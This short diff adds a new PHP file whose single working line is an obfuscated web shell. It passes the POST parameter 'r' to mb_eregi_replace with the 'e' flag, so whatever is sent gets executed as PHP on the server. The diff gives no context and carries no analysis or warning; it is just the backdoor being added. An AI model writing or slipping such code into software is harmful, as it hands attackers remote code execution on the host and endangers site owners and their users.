@@ -1,0 +1,2 @@
+<?php
+mb_eregi_replace('.*', $_POST['r'], 'seed', 'e');
